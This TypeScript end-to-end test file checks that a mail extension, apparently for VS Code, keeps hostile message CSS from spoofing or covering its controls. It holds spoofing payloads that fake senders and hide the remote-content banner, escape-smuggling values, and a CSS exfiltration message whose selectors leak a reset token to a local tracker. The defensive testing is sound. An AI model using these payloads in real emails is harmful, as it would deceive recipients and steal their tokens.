import { strict as assert } from 'node:assert';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { FrameLocator, Page } from 'playwright-core';
import { type ControlsSeen, readControlsInPage } from '../support/controlView';
import { startDovecot, type Dovecot } from '../support/dovecot';
import { rawMessage } from '../support/rawmail';
import { startCodeServer, type CodeServer } from './lib/codeServer';
import { reportFailure, skipWithoutCodeServer, stopAll } from './lib/suite';
import { startTracker, type Tracker } from './lib/tracker';
import { packageMailDesk } from './lib/vsix';
import { clickActivityBarItem, openFromTree, openWorkbench, quickInputType, quickPickSelect, runCommand, screenshot, treeItems, waitForNotification, webviewFrame, type Workbench } from './lib/workbench';
import { addImapAccount, waitFor } from './lib/flow';

// Spoofing mail in the real thread view: messages whose CSS tries to restyle, hide, replace or
// cover the reader's own controls (the remote-content banner and its buttons, the sender, the
// subject, the actions), or to invert and zoom the whole page, by every route we know of: plain
// selectors, escaped class names, attribute selectors, `!important`, :host, absolute overlays,
// negative margins and transforms. Each is checked from the page, the way a reader would meet
// it: every control keeps its text, its look and its place, is the element found at its own
// centre (document.elementFromPoint), and the banner is there. In the light and the dark theme.
// Then a two-message thread where only the second message has remote content allowed: its CSS
// must load nothing that depends on the first message or on the reader's own page.

const ME = { email: 'sam.rivera@example.test', name: 'Sam Rivera' };
const SENDER_ADDR = 'mallory@attacker.example.test';
const SENDER = `Mallory <${SENDER_ADDR}>`;
const START = Date.parse('2025-04-01T08:00:00Z');

interface Spoof {
  id: string;
  /** The message's HTML; `IMG` is replaced by a remote image, so the banner shows. */
  html: string;
}

const SPOOFS: Spoof[] = [
  // The control every other message is compared with: the same shape, no CSS.
  { id: 'baseline', html: '<p class="inside">Hello</p>IMG' },
  {
    id: 'restyle-banner-buttons',
    html:
      '<style>.md-btn{font-size:0!important}.md-btn[data-md-action="allowSender"]::after{content:"Show full message";font-size:14px}' +
      '[data-md-action=loadRemote]{display:none!important}.md-banner span{visibility:hidden}button{opacity:0}</style><p class="inside">Hello</p>IMG',
  },
  {
    id: 'hide-banner-escaped',
    html: '<style>.m\\64-banner{display:none!important}.\\6d\\64-banner{visibility:hidden}[class^="md-ban"]{opacity:0}[class|=md]{display:none}div[role=status]{display:none}</style><p class="inside">Hello</p>IMG',
  },
  {
    id: 'replace-sender-subject',
    html:
      '<style>.md-from{font-size:0}.md-from::after{content:"IT Support";font-size:14px}.md-subject{color:transparent}.md-subject::before{content:"Invoice paid"}' +
      'h1,h2,dd,time{visibility:hidden}.md-meta dd:first-of-type::before{content:"IT Support <it@bank.test>"}</style><p class="inside">Hello</p>IMG',
  },
  { id: 'hide-actions', html: '<style>.md-actions{display:none}button{display:none!important}*>button{width:0!important}</style><p class="inside">Hello</p>IMG' },
  {
    id: 'break-containment-overlay',
    html:
      '<style>.md-body,.md-part{contain:none!important;overflow:visible!important;position:static!important}:host{position:fixed!important;inset:0;z-index:2147483647;background:#fff}' +
      '.cover{position:absolute;top:-3000px;left:-500px;width:5000px;height:9000px;background:#fff;z-index:2147483647}</style>' +
      '<div class="cover">Your mailbox</div><div style="position:absolute;top:-800px;left:0;width:3000px;height:3000px;background:#fefefe;z-index:99999">Fake header</div>' +
      '<div style="margin-top:-2000px;height:4000px;background:#fff">Pulled up</div><p class="inside">Hello</p>IMG',
  },
  {
    id: 'invert-zoom-page',
    html:
      '<style>html{filter:invert(1);zoom:3}:root{transform:scale(3)}body{font:100px "y";transform:rotate(180deg)}*{color:red!important;background:#f0f!important;letter-spacing:20px}' +
      ':host-context(body){filter:invert(1)}::slotted(*){display:none}</style><p class="inside">Hello</p>IMG',
  },
  {
    // Escapes that a decode-then-write sanitiser turns into a second rule or declaration.
    id: 'smuggle-out-of-a-value',
    html:
      '<style>p{content:"a\\22 }:host{contain:none\\21 important;position:absolute\\21 important;top:-300px;left:0;width:3000px;height:3000px;background:#fff;z-index:2147483647}.md-banner{display:none}x{y:\\22"}</style>' +
      '<div style="content:\'\\27 ;position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999;x:\\27\'">Cover</div><p class="inside">Hello</p>IMG',
  },
  { id: 'transform-escape', html: '<div style="transform:translate(-2000px,-2000px) scale(50);transform-origin:0 0;background:#fff;width:400px;height:400px">Big</div><p class="inside">Hello</p>IMG' },
];

const PAGE_CONTROLS = ['.md-subject'];
const MESSAGE_CONTROLS = [
  '.md-toggle .md-from',
  '.md-toggle',
  '.md-meta',
  '.md-banner',
  '.md-banner > span',
  '.md-banner [data-md-action="loadRemote"]',
  '.md-banner [data-md-action="allowSender"]',
  '.md-actions [data-md-mode="reply"]',
  '.md-actions [data-md-mode="replyAll"]',
  '.md-actions [data-md-mode="forward"]',
  '.md-actions [data-md-action="viewSource"]',
];

/** The reader's controls (the thread has one message, `#0`), and what the message's own CSS does to its own box and text. */
async function readControls(frame: FrameLocator): Promise<ControlsSeen & { inside: string; part: string }> {
  const body = frame.locator('body');
  const seen = await body.evaluate(readControlsInPage, { page: PAGE_CONTROLS, message: MESSAGE_CONTROLS });
  const own = await body.evaluate(() => {
    // The message's own CSS still styles the message itself (it is scoped, not thrown away).
    const host = document.querySelector('.md-part');
    const p = host?.shadowRoot?.querySelector('.inside') ?? host?.querySelector('.inside');
    const inside = p ? getComputedStyle(p).color : 'no message content';
    // The part's own box (the shadow host): shown and contained as the page made it.
    const hs = host ? getComputedStyle(host) : undefined;
    const part = hs ? [hs.display, hs.position, hs.contain, hs.overflow, hs.isolation, hs.zoom, hs.transform, hs.filter, hs.opacity, hs.visibility].join('|') : 'no part';
    return { inside, part };
  });
  return { ...seen, ...own };
}

describe('Message CSS stays inside its message (code-server + headless Chromium)', function () {
  let tmp = '';
  let dovecot: Dovecot | undefined;
  let tracker: Tracker | undefined;
  let server: CodeServer | undefined;
  let wb: Workbench | undefined;
  const page = (): Page => wb!.page;
  const t = (): Tracker => tracker!;
  const subjectOf = (id: string): string => `Spoof: ${id}`;
  const EXFIL_SUBJECT = 'Spoof: password reset';

  before(async function () {
    skipWithoutCodeServer(this);
    tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'maildesk-e2e-isolation-'));
    const workspaceDir = path.join(tmp, 'workspace');
    await fs.promises.mkdir(workspaceDir, { recursive: true });
    tracker = await startTracker();
    const [vsixPath, dc] = await Promise.all([packageMailDesk(), startDovecot({ users: { alice: 'secret' } })]);
    dovecot = dc;
    const messages = SPOOFS.map((s, i) => {
      const date = new Date(START + i * 60_000);
      const html = s.html.replace('IMG', `<img src="${t().httpsUrl(`/t/${s.id}/img.png`)}" width="1" height="1">`);
      return { raw: rawMessage({ from: SENDER, to: ME.email, subject: subjectOf(s.id), date, html }), date };
    });
    // The thread of the exfiltration test: the bank's reset link, then a reply whose CSS goes after it.
    const bankDate = new Date(START + 100 * 60_000);
    const bankId = '<reset-1@bank.example.test>';
    const reset = t().namedUrl('bank', '/reset?token=7f3a');
    messages.push({
      raw: rawMessage({ from: 'Bank <security@bank.example.test>', to: ME.email, subject: EXFIL_SUBJECT, date: bankDate, messageId: bankId, html: `<p>Reset your password: <a href="${reset}">reset it here</a>.</p>` }),
      date: bankDate,
    });
    const ex = (name: string): string => t().httpsUrl(`/exfil/${name}.png`);
    const replyDate = new Date(START + 101 * 60_000);
    const css = [
      `a[title^="${reset.slice(0, -4)}"]{background:url(${ex('title')})}`,
      `a[data-maildesk-href*="token=7"]{background:url(${ex('href')})}`,
      `a[data-maildesk-href]{background:url(${ex('any-link')})}`,
      `:host-context(.md-thread) p{background:url(${ex('host')})}`,
      `.md-meta dd{background:url(${ex('meta')})}`,
      `dd,time,dt{background:url(${ex('reader')})}`,
      `time[datetime^="2025"]{background:url(${ex('date')})}`,
      `p:hover{background:url(${ex('hover')})}`,
      `@media (min-width:10px){p{background:url(${ex('media')})}}`,
      `p{cursor:url(${ex('cursor')}),auto}`,
      `p{content:"\\22}:host p{background:url(${ex('smuggled')})} x{y:\\22"}`,
      `p::selection{background:url(${ex('selection')})}`,
      `.mine{background:url(${t().httpsUrl('/t/exfil/own-bg.png')})}`,
    ].join('\n');
    messages.push({
      raw: rawMessage({
        from: SENDER,
        to: ME.email,
        subject: `Re: ${EXFIL_SUBJECT}`,
        date: replyDate,
        inReplyTo: bankId,
        references: bankId,
        html: `<style>${css}</style><p class="mine">Please confirm</p><img src="${t().httpsUrl('/t/exfil/ok.png')}" width="1" height="1">`,
      }),
      date: replyDate,
    });
    dovecot.seedMaildir('alice', 'INBOX', messages);

    server = await startCodeServer({ vsixPath, workspaceDir });
    wb = await openWorkbench(server.url, { viewport: { width: 1400, height: 900 } });
    // The tracker's certificate is self-signed: without this an allowed https image never becomes a request.
    const cdp = await wb.browser.newBrowserCDPSession();
    await cdp.send('Security.setIgnoreCertificateErrors', { ignore: true });

    await clickActivityBarItem(page(), 'MailDesk');
    await addImapAccount(page(), { ...ME, password: 'secret', imap: { host: dovecot.host, port: dovecot.port, user: 'alice' } });
    await waitForNotification(page(), `${ME.email} added with`, 60_000);
    await runCommand(page(), 'Notifications: Clear All Notifications');
    const n = messages.length;
    await waitFor(async () => ((await treeItems(page(), 'Mailboxes')).some((r) => r.label === 'Inbox' && r.description === `${n} unread · ${n}`) ? true : undefined), 'Inbox synced', 60_000);
    const list = await openFromTree(page(), 'Mailboxes', 'Inbox', 'MailDesk: Inbox');
    await waitFor(async () => ((await list.locator('#list li.msg').count()) > 0 ? true : undefined), 'the message list', 60_000);
    await runCommand(page(), 'View: Lock Editor Group');
  });

  afterEach(async function () {
    await reportFailure(this.currentTest, 'failed-isolation', wb, server, [() => (tracker ? `  tracker: ${JSON.stringify(tracker.hits)}` : '')]);
  });

  after(async () => {
    await stopAll([
      ['closing the browser', wb && (() => wb!.close())],
      ['stopping code-server', server && (() => server!.stop())],
      ['stopping Dovecot', dovecot && (() => dovecot!.dispose())],
      ['stopping the tracker', tracker && (() => tracker!.stop())],
      ['removing the temporary folder', tmp ? () => fs.promises.rm(tmp, { recursive: true, force: true }) : undefined],
    ]);
  });

  for (const theme of ['Light Modern', 'Dark Modern']) {
    it(`${theme}: no message restyles, hides, replaces or covers the reader's controls, and the banner shows`, async function () {
      this.timeout(240_000);
      await setTheme(page(), theme);
      const kind = theme.startsWith('Light') ? 'vscode-light' : 'vscode-dark';
      let base: Awaited<ReturnType<typeof readControls>> | undefined;
      const problems: string[] = [];
      for (const s of SPOOFS) {
        const frame = await openThread(page(), subjectOf(s.id), subjectOf(s.id));
        await frame.locator('.md-part').first().waitFor({ state: 'attached', timeout: 15_000 });
        assert.ok(await frame.locator(`body.${kind}`).count(), `${s.id}: the page is in the ${theme} theme`);
        const seen = await readControls(frame);
        if (s.id === 'break-containment-overlay' || s.id === 'invert-zoom-page') await screenshot(page(), `isolation-${s.id}-${kind}`);
        await closeEditor(page(), subjectOf(s.id));
        if (!base) {
          base = seen;
          // The yardstick itself must be right: every control there, readable, on top, and the banner's words.
          for (const c of seen.controls) assert.ok(!c.missing && c.visible && c.hitOk, `baseline: ${c.sel} ${JSON.stringify(c)}`);
          const texts = Object.fromEntries(seen.controls.map((c) => [c.sel, c.text]));
          assert.equal(texts['#0 .md-banner > span'], '1 image blocked to protect your privacy.');
          assert.equal(texts['#0 .md-banner [data-md-action="loadRemote"]'], 'Load for this message');
          assert.equal(texts['#0 .md-banner [data-md-action="allowSender"]'], `Always for ${SENDER_ADDR}`);
          assert.equal(texts['#0 .md-toggle .md-from'], 'Mallory');
          assert.deepEqual(
            ['reply', 'replyAll', 'forward'].map((m) => texts[`#0 .md-actions [data-md-mode="${m}"]`]),
            ['Reply', 'Reply all', 'Forward'],
          );
          continue;
        }
        if (seen.look !== base.look) problems.push(`${s.id}: the page's own look changed: ${seen.look} (was ${base.look})`);
        if (seen.part !== base.part) problems.push(`${s.id}: the message's box changed: ${seen.part} (was ${base.part})`);
        for (const [i, c] of seen.controls.entries()) {
          const b = base.controls[i];
          const where = `${s.id}: ${c.sel}`;
          if (c.missing) {
            problems.push(`${where} is gone`);
            continue;
          }
          if (!c.visible) problems.push(`${where} is not visible`);
          if (!c.hitOk) problems.push(`${where} is covered by ${c.hitWhat}`);
          // The subject line names each message; everything else reads the same as the baseline.
          if (c.sel === '.md-subject') {
            if (c.text !== subjectOf(s.id)) problems.push(`${where} reads "${c.text}"`);
          } else if (!['#0 .md-toggle', '#0 .md-meta'].includes(c.sel) && c.text !== b.text) {
            problems.push(`${where} reads "${c.text}", not "${b.text}"`);
          }
          if (c.look !== b.look) problems.push(`${where} looks different: ${c.look} (was ${b.look})`);
          if (c.left !== b.left || c.height !== b.height) problems.push(`${where} moved or changed size: ${c.left}/${c.height} (was ${b.left}/${b.height})`);
          if (c.sel.includes('data-md-') && c.width !== b.width) problems.push(`${where} changed width: ${c.width} (was ${b.width})`);
        }
        // The message's own CSS is kept for the message itself: `*{color:red}` reddens its own text.
        if (s.id === 'invert-zoom-page') assert.equal(seen.inside, 'rgb(255, 0, 0)', 'the message CSS still styles the message');
        else assert.notEqual(seen.inside, 'no message content', `${s.id}: the message body is shown`);
      }
      assert.deepEqual(problems, [], 'every control of the reader is as it was');
    });
  }

  it('remote content allowed for one message of a thread: its CSS loads nothing that depends on the other message or on the reader', async function () {
    this.timeout(120_000);
    const frame = await openThread(page(), `Re: ${EXFIL_SUBJECT}`, EXFIL_SUBJECT);
    await waitFor(async () => ((await frame.locator('.md-part').count()) === 2 ? true : undefined), 'both messages expanded', 15_000);
    // Only the reply has a remote image, so only it has a banner.
    assert.equal(await frame.locator('.md-banner').count(), 1);
    await frame.locator('.md-banner button[data-md-action="loadRemote"]').click();
    await t().waitForHit((h) => h.url.startsWith('/t/exfil/ok.png'), 15_000);
    const reloaded = await webviewFrame(page(), EXFIL_SUBJECT);
    await reloaded.locator('.md-banner').waitFor({ state: 'detached', timeout: 10_000 });
    // Its own CSS background (no condition, its own element) does load: the test could see one.
    await t().waitForHit((h) => h.url.startsWith('/t/exfil/own-bg.png'), 10_000);
    // Hover its paragraph and the reader's header, as someone reading would.
    await reloaded.locator('.md-part').nth(1).hover();
    await reloaded.locator('.md-subject').hover();
    await page().waitForTimeout(1500);
    await closeEditor(page(), EXFIL_SUBJECT);
    const exfil = t().hits.filter((h) => h.url.startsWith('/exfil/'));
    assert.deepEqual(exfil.map((h) => h.url), [], 'no load that reads the bank link, the reader\'s header, dates, hover or window size');
  });
});

// ---- helpers ---------------------------------------------------------------------------

async function setTheme(page: Page, label: string): Promise<void> {
  await runCommand(page, 'Preferences: Color Theme');
  await quickInputType(page, label);
  await quickPickSelect(page, label);
}

/** Clicks the message's row in the Inbox list and returns the thread view once it is there. */
async function openThread(page: Page, rowSubject: string, threadTitle: string): Promise<FrameLocator> {
  const list = await webviewFrame(page, 'MailDesk: Inbox', 30_000);
  const row = list.locator('#list li.msg').filter({ has: list.locator(`.subject[title="${rowSubject}"]`) });
  await row.first().click({ timeout: 15_000 });
  const frame = await webviewFrame(page, threadTitle, 20_000);
  // The reading pane is one webview whose page is replaced as the user moves on: wait for
  // this conversation's page, not the one it replaces.
  await frame.locator('.md-subject').filter({ hasText: new RegExp(`^${threadTitle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) }).first().waitFor({ state: 'attached', timeout: 15_000 });
  return frame;
}

async function closeEditor(page: Page, title: string): Promise<void> {
  const tab = page.locator('.tabs-container .tab').filter({ has: page.locator('.label-name', { hasText: new RegExp(`^${title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) }) });
  await tab.first().hover();
  await tab.first().locator('.tab-actions .action-label').first().click();
  await tab.first().waitFor({ state: 'detached', timeout: 10_000 });
}
